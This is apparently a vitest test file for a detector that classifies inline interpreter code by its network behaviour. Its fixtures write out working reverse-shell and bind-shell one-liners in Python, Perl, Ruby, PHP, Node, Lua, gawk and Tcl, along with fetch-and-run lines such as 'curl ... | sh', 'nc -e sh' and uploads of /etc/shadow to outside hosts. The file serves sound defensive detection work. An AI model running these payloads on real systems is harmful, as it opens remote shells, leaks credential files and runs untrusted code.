import { describe, expect, it } from 'vitest';
import { parseInlineCode } from '../../../src/detect/arguments/inline-code.ts';
import { inlineText, interpreterLanguage } from '../../../src/detect/arguments/interpreters.ts';
import type { InlineCode } from '../../../src/detect/invocation.ts';
import { peersOf } from './support.ts';

function scan(name: string, ...words: string[]) {
  const text = inlineText(name, words);
  if (!text) throw new Error('no inline code');
  return parseInlineCode('x', text.language, text.code, '/work');
}

const SHELLS: [string, string[], string][] = [
  [
    'python3',
    [
      '-c',
      'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.23",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])',
    ],
    'connect public_ip 198.51.100.23 4444',
  ],
  [
    'python',
    [
      '-c',
      "import os,pty,socket;s=socket.create_connection(('198.51.100.23',4444));os.dup2(s.fileno(),0);pty.spawn('sh')",
    ],
    'connect public_ip 198.51.100.23 4444',
  ],
  [
    'perl',
    [
      '-e',
      'use Socket;$i="198.51.100.23";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};',
    ],
    'connect public_ip 198.51.100.23 1234',
  ],
  [
    'perl',
    [
      '-MIO::Socket',
      '-e',
      '$c=new IO::Socket::INET(PeerAddr,"198.51.100.23:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
    ],
    'connect public_ip 198.51.100.23 4242',
  ],
  [
    'ruby',
    [
      '-rsocket',
      '-e',
      'f=TCPSocket.open("198.51.100.23",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
    ],
    'connect public_ip 198.51.100.23 1234',
  ],
  [
    'php',
    ['-r', '$sock=fsockopen("198.51.100.23",1234);exec("/bin/sh -i <&3 >&3 2>&3");'],
    'connect public_ip 198.51.100.23 1234',
  ],
  [
    'node',
    [
      '-e',
      '(function(){var net=require("net"),sh=require("child_process").spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4242,"198.51.100.23",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});})();',
    ],
    'connect public_ip 198.51.100.23 4242',
  ],
  [
    'lua',
    [
      '-e',
      "require('socket');t=socket.tcp();t:connect('198.51.100.23','1234');os.execute('/bin/sh -i <&3 >&3 2>&3');",
    ],
    'connect public_ip 198.51.100.23 1234',
  ],
  [
    'gawk',
    [
      'BEGIN{s="/inet/tcp/0/198.51.100.23/4242";while(1){printf "> "|&s;s|&getline c;while((c|&getline)>0)print $0|&s}}',
    ],
    'connect public_ip 198.51.100.23 4242',
  ],
  [
    'tclsh',
    ['-c', 'set s [socket 198.51.100.23 4242];while 1 {gets $s c;catch {exec {*}$c} r;puts $s $r;flush $s}'],
    'connect public_ip 198.51.100.23 4242',
  ],
];

describe('inline code that wires a shell to a connection', () => {
  it.each(SHELLS)('%s %j', (name, words, peer) => {
    const invocation = scan(name, ...words);
    expect(invocation.code).toMatchObject({ opens_socket: true, attaches_shell: true });
    expect(invocation.attached[0]?.on_socket).toBe(true);
    expect(peersOf(invocation)).toEqual([peer]);
  });

  it('or waits for one', () => {
    const invocation = scan(
      'python3',
      '-c',
      'import socket,os;s=socket.socket();s.bind(("0.0.0.0",4444));s.listen();c,a=s.accept();[os.dup2(c.fileno(),f) for f in (0,1,2)];os.system("/bin/sh")',
    );
    expect(invocation).toMatchObject({ serves: 'shell', listen: { address: '0.0.0.0', port: '4444' } });
    expect(peersOf(invocation)).toEqual(['listen any 0.0.0.0 4444']);
  });

  it('also where it is encoded once', () => {
    const inner = Buffer.from(SHELLS[0]![1][1]!).toString('base64');
    const invocation = scan('python3', '-c', `import base64;exec(base64.b64decode("${inner}"))`);
    expect(invocation.code).toMatchObject({ decoded: true, attaches_shell: true, obscured: false });
    expect(peersOf(invocation)).toEqual(['connect public_ip 198.51.100.23 4444']);
  });

  it('also where names are written in escapes', () => {
    const escaped = [...'socket'].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
    expect(scan('python3', '-c', `s=__import__("${escaped}").socket();`).code?.opens_socket).toBe(true);
  });

  it('says when it cannot see what runs', () => {
    expect(
      scan('python3', '-c', 'import zlib;exec(zlib.decompress(open("/x","rb").read()))').code,
    ).toMatchObject({ obscured: true, decoded: false });
  });
});

describe('inline code that fetches, sends or serves', () => {
  const cases: [string, string, string, Partial<InlineCode>, string[]][] = [
    [
      'a health check',
      'python3',
      "import urllib.request; urllib.request.urlopen('http://localhost:8000/health')",
      { downloads: true, executes_download: false, uploads: false, attaches_shell: false },
      ['connect loopback localhost 8000'],
    ],
    [
      'a health check',
      'node',
      "require('http').get('http://localhost:3000/', r => process.exit(r.statusCode===200?0:1))",
      { executes_download: false, attaches_shell: false },
      ['connect loopback localhost 3000'],
    ],
    [
      'a fetch that is run',
      'python3',
      'exec(__import__("urllib.request").request.urlopen("http://203.0.113.9/p").read())',
      { executes_download: true },
      ['connect public_ip 203.0.113.9 80'],
    ],
    [
      'a fetch that is run',
      'php',
      'eval(file_get_contents("http://203.0.113.9/a"));',
      { executes_download: true },
      ['connect public_ip 203.0.113.9 80'],
    ],
    [
      'an upload',
      'python3',
      "import requests; requests.post('https://c.example.net/u', files={'f': open('/etc/shadow','rb')})",
      { uploads: true, executes_download: false },
      ['connect public_name c.example.net 443'],
    ],
    [
      'a port check',
      'python3',
      "import socket; socket.create_connection(('db', 5432), timeout=2)",
      { opens_socket: true, attaches_shell: false },
      ['connect internal db 5432'],
    ],
  ];
  it.each(cases)('%s in %s', (_, name, code, flags, peers) => {
    const flag = name === 'php' ? '-r' : name === 'node' ? '-e' : '-c';
    const invocation = scan(name, flag, code);
    expect(invocation.code).toMatchObject({ opens_socket: true, ...flags });
    expect(peersOf(invocation)).toEqual(peers);
  });

  it('names the files', () => {
    expect(
      scan('python3', '-c', "import requests; requests.post('http://h/', data=open('/etc/shadow').read())")
        .uploads,
    ).toMatchObject([{ path: '/etc/shadow' }]);
    expect(
      scan(
        'python3',
        '-c',
        'from urllib.request import urlretrieve; urlretrieve("http://203.0.113.9/x","/tmp/x")',
      ).downloads,
    ).toMatchObject([{ path: '/tmp/x' }]);
  });

  it('gives the commands it runs', () => {
    expect(scan('perl', '-e', 'system("curl -s http://203.0.113.9/x | sh")').code?.commands).toEqual([
      'curl -s http://203.0.113.9/x | sh',
    ]);
    expect(
      scan('python3', '-c', 'import subprocess; subprocess.run(["sh","-c","nc -e sh h 1"])').code?.commands,
    ).toContain('nc -e sh h 1');
  });

  it.each([
    ['python3', '-c', 'import os; print(os.environ["HOME"])'],
    ['python3', '-c', 'import pty; pty.spawn("/bin/bash")'],
    ['node', '-e', 'console.log(process.version)'],
    ['perl', '-ne', 'print if /socket/'],
    ['awk', '{print $1}', ''],
    ['php', '-r', 'echo PHP_VERSION;'],
  ])('%s %s %s touches no network', (name, ...words) => {
    const invocation = scan(name, ...words);
    expect(invocation.code).toMatchObject({ opens_socket: false, attaches_shell: false });
    expect(invocation.peers).toEqual([]);
  });
});

describe('where the code stands', () => {
  it.each([
    ['python3', ['-c', 'a', 'b', '-c'], 'a'],
    ['python3.11', ['-Sc', 'a'], 'a'],
    ['perl', ['-Mstrict', '-we', 'a', '-e', 'b'], 'use strict;\na\nb'],
    ['ruby', ['-e', 'a'], 'a'],
    ['node', ['--eval=a'], 'a'],
    ['nodejs', ['-p', 'a'], 'a'],
    ['deno', ['eval', 'a'], 'a'],
    ['php8.2', ['-d', 'x=1', '-r', 'a'], 'a'],
    ['gawk', ['-F:', 'a', 'file'], 'a'],
  ])('%s %j', (name, words, code) => {
    expect(inlineText(name, words)?.code).toBe(code);
  });
  it.each([
    ['python3', ['app.py', '-c', 'a']],
    ['perl', ['x.pl']],
    ['node', ['server.js', '-e', 'a']],
    ['gawk', ['-f', 'x.awk']],
    ['bash', ['-c', 'a']],
  ])('%s %j has none', (name, words) => {
    expect(inlineText(name, words)).toBeUndefined();
  });
  it('a module is told with its arguments', () => {
    expect(inlineText('python3', ['-m', 'http.server', '8080'])).toMatchObject({
      code: '',
      module: 'http.server 8080',
    });
  });
  it('versions do not change the language', () => {
    expect(interpreterLanguage('python3.12')).toBe('python');
    expect(interpreterLanguage('constructor')).toBeUndefined();
  });
});
